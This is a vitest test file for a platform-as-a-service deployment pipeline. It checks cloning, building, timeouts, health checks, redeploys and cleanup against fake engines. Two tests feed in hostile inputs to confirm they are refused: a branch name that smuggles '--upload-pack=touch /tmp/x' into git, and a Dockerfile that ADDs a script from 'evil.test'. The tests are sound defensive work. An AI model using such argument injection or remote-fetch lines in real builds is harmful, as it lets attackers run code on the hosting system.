import { beforeEach, describe, expect, it } from 'vitest';
import { fakePaasEngine, REPO_URL, type FakePaasEngine } from '../../../test/fakes/paas-engine.js';

let e: FakePaasEngine;

beforeEach(() => {
  e = fakePaasEngine();
});

/** An app and one queued deployment of it. */
function queued(app = e.repo.addApp({ repoUrl: REPO_URL })) {
  return { app, dep: e.repo.addDeployment(app.id) };
}

/** An app serving a first deployment. */
async function servingApp() {
  const { app, dep } = queued();
  expect((await e.pipeline.run(dep.id)).status).toBe('running');
  return { app: e.repo.app(app.id), dep: e.repo.deployment(dep.id) };
}

/** What every ending leaves, success or failure: log persisted and ended, checkout gone, slot released. */
function expectCleanEnd(depId: string, appId: string, final: string) {
  const dep = e.repo.deployment(depId);
  expect(dep.finishedAt).toBeInstanceOf(Date);
  expect(dep.durationMs).toBeGreaterThanOrEqual(0);
  expect(e.logs.ended.get(depId)).toBe(final);
  expect(dep.log).toBe(e.logs.text(depId));
  expect([...e.git.dirs.keys()].filter((d) => d.includes(appId))).toEqual([]);
  expect(e.sandbox.open.size).toBe(0);
}

describe('DeployPipeline', () => {
  it('deploys a repository with its own Dockerfile: running, serving, log kept (the baseline the failures differ from)', async () => {
    e.docker.outcomes.push({ kind: 'ok', ports: [3000] }); // the image EXPOSEs 3000; without EXPOSE the app gets PORT=8080
    const { app, dep } = queued();
    const out = await e.pipeline.run(dep.id);
    expect(out).toEqual({ deploymentId: dep.id, status: 'running', reason: null });
    const row = e.repo.app(app.id);
    expect(row).toMatchObject({
      status: 'running',
      activeDeploymentId: dep.id,
      detectedType: 'dockerfile',
      containerPort: 3000,
      lastError: null,
    });
    expect(e.driver.workloads.get(row.containerId!)?.state.running).toBe(true);
    expect(e.repo.deployment(dep.id)).toMatchObject({
      status: 'running',
      commitSha: 'a'.repeat(40),
      branch: 'main',
      hostPort: row.hostPort,
    });
    expectCleanEnd(dep.id, app.id, 'running');
  });

  it('a clone failure fails the deployment and the app with the reason; nothing is built or started', async () => {
    const { app, dep } = queued();
    e.git.cloneFailure = 'fatal: unable to access the repository (HTTP 403)';
    const out = await e.pipeline.run(dep.id);
    expect(out.status).toBe('failed');
    expect(out.reason).toBe('Could not clone the repository: fatal: unable to access the repository (HTTP 403)');
    expect(e.repo.deployment(dep.id)).toMatchObject({
      status: 'failed',
      reason: out.reason,
      imageId: null,
      containerId: null,
    });
    expect(e.repo.app(app.id)).toMatchObject({ status: 'failed', lastError: out.reason, activeDeploymentId: null });
    expect(e.docker.builds).toEqual([]);
    expect(e.driver.workloads.size).toBe(0);
    expect(e.logs.text(dep.id)).toContain(`==> Failed: ${out.reason}`);
    expectCleanEnd(dep.id, app.id, 'failed');
  });

  it('refuses a URL scheme it does not clone and a bad branch name before cloning anything', async () => {
    const a = queued(e.repo.addApp({ repoUrl: 'http://example.test/repo.git' }));
    expect((await e.pipeline.run(a.dep.id)).reason).toMatch(/only https:\/\/ git URLs are accepted/);
    const b = queued(e.repo.addApp({ repoUrl: REPO_URL, branch: '--upload-pack=touch /tmp/x' }));
    expect((await e.pipeline.run(b.dep.id)).reason).toMatch(/^The branch name /);
    expect(e.git.clones).toEqual([]);
    expect(e.repo.app(b.app.id).status).toBe('failed');
  });

  it('a branch the repository does not have is a clone failure naming it', async () => {
    const { dep } = queued(e.repo.addApp({ repoUrl: REPO_URL, branch: 'release' }));
    expect((await e.pipeline.run(dep.id)).reason).toBe(
      'Could not clone the repository: the branch release does not exist',
    );
  });

  it('a repository nothing can be detected in fails at detecting, with detect’s reason, and builds nothing', async () => {
    e.git.repos.set(REPO_URL, {
      commitSha: 'b'.repeat(40),
      branch: 'main',
      files: { 'README.md': '# nothing to run' },
    });
    const { app, dep } = queued();
    const out = await e.pipeline.run(dep.id);
    expect(out.status).toBe('failed');
    expect(out.reason).toBeTruthy();
    expect(e.repo.deployment(dep.id)).toMatchObject({
      status: 'failed',
      commitSha: 'b'.repeat(40),
      detectedType: null,
    });
    expect(e.repo.app(app.id).status).toBe('failed');
    expect(e.docker.builds).toEqual([]);
    expectCleanEnd(dep.id, app.id, 'failed');
  });

  it('an own Dockerfile the policy refuses (remote ADD) fails before the build', async () => {
    e.git.repos.set(REPO_URL, {
      commitSha: COMMIT_B,
      branch: 'main',
      files: { Dockerfile: 'FROM node:22-alpine\nADD https://evil.test/x.sh /x.sh\n' },
    });
    const { dep } = queued();
    const out = await e.pipeline.run(dep.id);
    expect(out.status).toBe('failed');
    expect(out.reason).toMatch(/ADD/);
    expect(e.docker.builds).toEqual([]);
  });

  it('no untrusted code runs without the egress policy: fails before the clone', async () => {
    e.sandbox.policyBroken = true;
    const { dep } = queued();
    expect((await e.pipeline.run(dep.id)).reason).toMatch(/egress policy/);
    expect(e.git.clones).toEqual([]);
  });

  it('a build failure names the failing step; the slot is released and no container starts', async () => {
    e.docker.outcomes.push({
      kind: 'fail',
      message: 'The command "npm ci" returned a non-zero code: 1',
      lines: ['npm ERR! missing lockfile'],
    });
    const { app, dep } = queued();
    const out = await e.pipeline.run(dep.id);
    expect(out.reason).toBe('The build failed: The command "npm ci" returned a non-zero code: 1');
    expect(e.logs.text(dep.id)).toContain('npm ERR! missing lockfile');
    expect(e.driver.workloads.size).toBe(0);
    expectCleanEnd(dep.id, app.id, 'failed');
  });

  it('a build that outlives PAAS_BUILD_TIMEOUT_MS is cancelled and fails with the timeout', async () => {
    e = fakePaasEngine({ pipeline: { buildTimeoutMs: 30 } });
    e.docker.outcomes.push({ kind: 'hang' });
    const { app, dep } = queued();
    const out = await e.pipeline.run(dep.id);
    expect(out.status).toBe('failed');
    expect(out.reason).toMatch(/^The build failed: the build took longer than/);
    expectCleanEnd(dep.id, app.id, 'failed');
  });

  it('a build that fills its disk cap is cancelled by the slot’s signal', async () => {
    e.sandbox.diskFullAfterMs = 10;
    e.docker.outcomes.push({ kind: 'hang' });
    const { dep } = queued();
    expect((await e.pipeline.run(dep.id)).reason).toBe(
      'The build failed: the build wrote more than its disk cap (PAAS_BUILD_DISK_MB)',
    );
    expect(e.sandbox.open.size).toBe(0);
  });

  it('a cache parent pruned during the build is retried once without the cache', async () => {
    e.docker.outcomes.push({ kind: 'fail', message: 'failed to export image: unknown parent image ID sha256:123' });
    const { dep } = queued();
    expect((await e.pipeline.run(dep.id)).status).toBe('running');
    expect(e.docker.builds.map((b) => b.options.noCache)).toEqual([false, true]);
  });

  it('an image over PAAS_IMAGE_MAX_MB is removed and fails the deployment', async () => {
    e.docker.outcomes.push({ kind: 'ok', size: 900 * 1024 * 1024 });
    const { dep } = queued();
    const out = await e.pipeline.run(dep.id);
    expect(out.reason).toMatch(/900 MB, more than the 500 MB allowed \(PAAS_IMAGE_MAX_MB\)/);
    expect(e.docker.images.size).toBe(0);
    expect(e.docker.removedImages).toHaveLength(1);
  });

  it('an engine that stops answering mid-build is an internal error, reported with the deployment id', async () => {
    e.docker.outcomes.push({ kind: 'engine-down' });
    const { app, dep } = queued();
    const out = await e.pipeline.run(dep.id);
    expect(out.reason).toBe('Internal error while deploying: connect ECONNREFUSED /var/run/docker.sock');
    expect(e.internalErrors.map((x) => x.deploymentId)).toEqual([dep.id]);
    expectCleanEnd(dep.id, app.id, 'failed');
  });

  it('a failed health check with a previous deployment serving: the new container is removed and the old one keeps serving', async () => {
    const before = await servingApp();
    const next = e.repo.addDeployment(before.app.id);
    e.driver.readiness.set(next.id, { kind: 'crashes', exitCode: 1, logs: ['Error: Cannot find module "express"'] });
    const out = await e.pipeline.run(next.id);
    expect(out.status).toBe('failed');
    expect(out.reason).toMatch(/exited with code 1.*\n.*Cannot find module/s);
    const app = e.repo.app(before.app.id);
    expect(app).toMatchObject({
      status: 'running',
      activeDeploymentId: before.dep.id,
      containerId: before.app.containerId,
      hostPort: before.app.hostPort,
    });
    expect(app.lastError).toMatch(/^The latest deployment failed; the previous one still serves\./);
    expect(e.repo.deployment(before.dep.id).status).toBe('running');
    expect([...e.driver.workloads.keys()]).toEqual([before.app.containerId]);
    expect(e.driver.workloads.get(before.app.containerId!)!.state.running).toBe(true);
  });

  it('a health check that never passes on a first deployment fails the app', async () => {
    const { app, dep } = queued(e.repo.addApp({ repoUrl: REPO_URL, healthCheckPath: '/healthz' }));
    e.driver.readiness.set(dep.id, { kind: 'silent', status: 503 });
    const out = await e.pipeline.run(dep.id);
    expect(out.reason).toMatch(/answered HTTP 503 on its health-check path \/healthz/);
    expect(e.repo.app(app.id)).toMatchObject({ status: 'failed', containerId: null, activeDeploymentId: null });
    expect(e.driver.workloads.size).toBe(0);
  });

  it('a healthy redeploy switches the app, retires the old container and supersedes the old deployment', async () => {
    const before = await servingApp();
    const next = e.repo.addDeployment(before.app.id);
    expect((await e.pipeline.run(next.id)).status).toBe('running');
    const app = e.repo.app(before.app.id);
    expect(app.activeDeploymentId).toBe(next.id);
    expect(app.containerId).not.toBe(before.app.containerId);
    expect(e.driver.workloads.has(before.app.containerId!)).toBe(false);
    expect(e.repo.deployment(before.dep.id).status).toBe('superseded');
  });

  it('coalesces: older queued deployments of the app are superseded by the one that runs', async () => {
    const app = e.repo.addApp({ repoUrl: REPO_URL });
    const older = e.repo.addDeployment(app.id);
    const other = e.repo.addDeployment(e.repo.addApp({ repoUrl: REPO_URL }).id);
    const newest = e.repo.addDeployment(app.id);
    await e.pipeline.run(newest.id);
    expect(e.repo.deployment(older.id)).toMatchObject({
      status: 'superseded',
      reason: 'Coalesced into a newer deployment of the same app.',
    });
    expect(e.repo.deployment(other.id).status).toBe('queued');
    // The superseded job, when its turn comes, does nothing.
    const clones = e.git.clones.length;
    expect(await e.pipeline.run(older.id)).toMatchObject({ status: 'superseded' });
    expect(e.git.clones.length).toBe(clones);
  });

  it('a missing deployment or app is reported, not thrown', async () => {
    expect(await e.pipeline.run('00000000-0000-7000-8000-0000000fffff')).toMatchObject({ status: 'missing' });
    const dep = e.repo.addDeployment('00000000-0000-7000-8000-0000000eeeee');
    expect(await e.pipeline.run(dep.id)).toMatchObject({ status: 'missing' });
  });

  it('an app deleted while its container was starting: the container is removed, the deployment fails', async () => {
    const { app, dep } = queued();
    const waitReady = e.driver.waitReady.bind(e.driver);
    e.driver.waitReady = async (...args) => {
      const port = await waitReady(...args);
      await e.repo.deleteApp(app.id);
      e.repo.deployments.set(dep.id, { ...dep, status: 'starting' }); // the cascade would take it; keep it to read the outcome
      return port;
    };
    const out = await e.pipeline.run(dep.id);
    expect(out).toMatchObject({ status: 'failed', reason: 'The app was deleted during the deployment.' });
    expect(e.driver.workloads.size).toBe(0);
  });

  it('a Redis outage loses log lines, never the deployment', async () => {
    e.logs.down = true;
    const { app, dep } = queued();
    expect((await e.pipeline.run(dep.id)).status).toBe('running');
    expect(e.repo.app(app.id).status).toBe('running');
    expect(e.repo.deployment(dep.id).log).toBeNull();
  });

  it('a deployment a dead worker left half-done starts over from the clone', async () => {
    const app = e.repo.addApp({ repoUrl: REPO_URL });
    const dep = e.repo.addDeployment(app.id, { status: 'building' });
    expect((await e.pipeline.run(dep.id)).status).toBe('running');
    expect(e.logs.text(dep.id)).toContain('==> Starting over: the previous attempt was interrupted');
    expect(e.git.clones).toHaveLength(1);
  });
});

const COMMIT_B = 'b'.repeat(40);
